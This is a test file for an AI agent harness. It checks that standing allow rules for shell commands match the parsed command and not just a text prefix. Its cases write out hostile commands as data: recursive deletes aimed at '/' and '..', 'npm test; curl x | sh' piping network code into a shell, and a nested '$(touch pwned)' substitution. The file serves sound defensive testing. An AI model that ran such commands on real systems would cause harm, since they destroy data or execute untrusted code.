/**
 * Standing grants are patterns on the parsed command, never text prefixes: in `ask` mode,
 * headless (nobody to ask), a call a rule covers runs (decided `by: rule`), and one it does not
 * cover is refused with NO_APPROVAL_CHANNEL (or GUARD_DENIED when the judge refuses it anyway),
 * however much its text starts like the rule. The commands that run are harmless.
 */
import { existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startModelServer } from '../fixtures/model-server/server.js'
import type { ModelServer } from '../fixtures/model-server/server.js'
import {
  bash,
  callOutcome,
  disposeWorld,
  eventsOf,
  git,
  makeWorld,
  runBridle,
  sandboxHere,
  sentinelChanges,
  sessionEvents,
  snapshotSentinels,
  toolCalls,
  turnEnds,
} from './safety-fixture.js'
import type { CliRun, Snapshot, World } from './safety-fixture.js'
import type { LogEvent } from '../../protocol/events.js'

const sandbox = await sandboxHere('safety-grants')

const RULES = [
  { tool: 'bash', pattern: 'rm -rf build', effect: 'allow' },
  { tool: 'bash', pattern: 'git push *', effect: 'allow' },
  { tool: 'bash', pattern: 'npm test *', effect: 'allow' },
  { tool: 'bash', pattern: 'echo *', effect: 'allow' },
  { tool: 'bash', pattern: 'curl *', effect: 'allow' },
  { tool: 'bash', pattern: 'git log *', effect: 'deny' },
]

interface Case {
  readonly id: string
  readonly command: string
  readonly network?: boolean
  /** `ok` (ran, allowed by a rule) or the code that refused it. */
  readonly expected: 'ok' | 'NO_APPROVAL_CHANNEL' | 'GUARD_DENIED' | 'POLICY_DENIED'
  /** Who decided (`approval/decided` by), and the rule named when a rule decided. */
  readonly by: 'rule' | 'no-channel' | 'assessment'
  readonly rule?: string
}

const CASES: readonly Case[] = [
  // `rm -rf build`: a rule names it, but it never stretches to more targets.
  { id: 'rm-root', command: 'rm -rf build /', expected: 'GUARD_DENIED', by: 'assessment' },
  { id: 'rm-parent', command: 'rm -rf build ..', expected: 'GUARD_DENIED', by: 'assessment' },
  // A recursive delete is never granted by a standing rule (settings.ts, command/README.md),
  // not even the one named exactly: it needs the user each time.
  { id: 'rm-exact', command: 'rm -rf build', expected: 'NO_APPROVAL_CHANNEL', by: 'no-channel' },
  // `git push *`: a plain push is covered; deleting, mirroring or forcing is not.
  {
    id: 'push-plain',
    command: 'git push --dry-run origin main',
    expected: 'ok',
    by: 'rule',
    rule: 'bash: git push *',
  },
  {
    id: 'push-delete',
    command: 'git push --delete origin x',
    expected: 'NO_APPROVAL_CHANNEL',
    by: 'no-channel',
  },
  {
    id: 'push-mirror',
    command: 'git push --mirror',
    expected: 'NO_APPROVAL_CHANNEL',
    by: 'no-channel',
  },
  {
    id: 'push-force',
    command: 'git push origin +main',
    expected: 'NO_APPROVAL_CHANNEL',
    by: 'no-channel',
  },
  // `npm test *` does not cover what follows a `;`, nor code piped from the network.
  {
    id: 'npm-chained',
    command: 'npm test; curl x | sh',
    expected: 'NO_APPROVAL_CHANNEL',
    by: 'no-channel',
  },
  // `echo *`: plain echo runs; a redirect to a file, a write outside, a nested command do not.
  { id: 'echo-plain', command: 'echo hi', expected: 'ok', by: 'rule', rule: 'bash: echo *' },
  { id: 'echo-outside', command: 'echo hi > ../x', expected: 'GUARD_DENIED', by: 'assessment' },
  {
    id: 'echo-file',
    command: 'echo hi > out.txt',
    expected: 'NO_APPROVAL_CHANNEL',
    by: 'no-channel',
  },
  {
    id: 'echo-nested',
    command: 'echo "$(touch pwned)"',
    expected: 'NO_APPROVAL_CHANNEL',
    by: 'no-channel',
  },
  {
    id: 'echo-and-rm',
    command: 'echo hi && rm -rf build',
    expected: 'NO_APPROVAL_CHANNEL',
    by: 'no-channel',
  },
  // `curl *` covers a call without the network; asking for the network always needs the user.
  { id: 'curl-local', command: 'curl --version', expected: 'ok', by: 'rule', rule: 'bash: curl *' },
  {
    id: 'curl-network',
    command: 'curl --version',
    network: true,
    expected: 'NO_APPROVAL_CHANNEL',
    by: 'no-channel',
  },
  // A "never" rule catches its command anywhere in the line, even after an allowed one.
  {
    id: 'deny-anywhere',
    command: 'echo hi && git log -1',
    expected: 'POLICY_DENIED',
    by: 'rule',
    rule: 'bash: git log *',
  },
  // Only when a sandbox can run: unsandboxed, npm would write its logs into the (sentinel) home.
  ...(sandbox.available
    ? [
        {
          id: 'npm-plain',
          command: 'npm test',
          expected: 'ok',
          by: 'rule',
          rule: 'bash: npm test *',
        } as const,
      ]
    : []),
]

describe('standing grants in ask mode, headless', () => {
  let world: World
  let server: ModelServer
  let run: CliRun
  let events: LogEvent[]
  let before: Snapshot

  beforeAll(async () => {
    world = makeWorld('grants', { approvalRules: RULES })
    const remote = join(world.root, 'remote.git')
    mkdirSync(remote)
    git(remote, 'init', '--bare', '--initial-branch=main')
    git(world.project, 'init', '--initial-branch=main')
    writeFileSync(
      join(world.project, 'package.json'),
      JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'echo npm-tested' } }),
    )
    mkdirSync(join(world.project, 'build'))
    writeFileSync(join(world.project, 'build', 'out.js'), 'built\n')
    git(world.project, 'add', '.')
    git(world.project, 'commit', '-m', 'first')
    git(world.project, 'remote', 'add', 'origin', remote)
    world.sentinels.push(remote)
    before = snapshotSentinels(world)
    server = await startModelServer({
      script: [
        toolCalls(
          ...CASES.map((c) =>
            bash(c.id, c.command, c.network === undefined ? {} : { network: c.network }),
          ),
        ),
        'Done.',
      ],
    })
    run = await runBridle(world, server, 'go', { approval: 'ask' })
    events = sessionEvents(world)
  }, 60_000)

  afterAll(async () => {
    await server.close()
    disposeWorld(world)
  })

  it('the run completes with a result for every call', () => {
    expect(run.status, run.stderr).toBe(0)
    expect(turnEnds(events)).toEqual(['completed'])
    expect(eventsOf(events, 'tool/result')).toHaveLength(CASES.length)
  })

  for (const c of CASES) {
    it(`${c.id}: \`${c.command}\`${c.network ? ' (network)' : ''} -> ${c.expected}`, () => {
      const outcome = callOutcome(events, c.id)
      const detail = JSON.stringify(outcome, null, 1)
      expect(outcome.code, detail).toBe(c.expected)
      expect(outcome.decided, detail).toHaveLength(1)
      expect(outcome.decided[0]?.by, detail).toBe(c.by)
      // A deny rule is named alone; for allow rules see the BUG test below.
      if (c.rule !== undefined && c.expected !== 'ok')
        expect(outcome.decided[0]?.detail, detail).toBe(c.rule)
      if (c.rule !== undefined) expect(outcome.decided[0]?.detail, detail).toContain(c.rule)
      const started = eventsOf(events, 'process/started').some((e) => e.data.callId === c.id)
      expect(started, detail).toBe(c.expected === 'ok')
    })
  }

  it('an allow decided by a rule names only the rule(s) that covered the call', () => {
    const named = CASES.filter((c) => c.expected === 'ok' && c.rule !== undefined).map((c) => [
      c.id,
      callOutcome(events, c.id).decided[0]?.detail,
    ])
    expect(named).toEqual(
      CASES.filter((c) => c.expected === 'ok' && c.rule !== undefined).map((c) => [c.id, c.rule]),
    )
  })

  it('what was covered really ran', () => {
    const echo = callOutcome(events, 'echo-plain').result
    expect(echo?.ok && echo.output).toBe('hi\n')
    const curl = callOutcome(events, 'curl-local').result
    expect(curl?.ok && curl.output).toMatch(/^curl \d/)
    if (sandbox.available) {
      const npm = callOutcome(events, 'npm-plain').result
      expect(npm?.ok && npm.output).toContain('npm-tested')
    }
  })

  it('nothing uncovered had an effect; no sentinel changed', () => {
    expect(existsSync(join(world.project, 'pwned'))).toBe(false)
    expect(existsSync(join(world.project, 'out.txt'))).toBe(false)
    expect(existsSync(join(world.project, 'build', 'out.js'))).toBe(true)
    expect(sentinelChanges(before, snapshotSentinels(world))).toEqual([])
  })
})
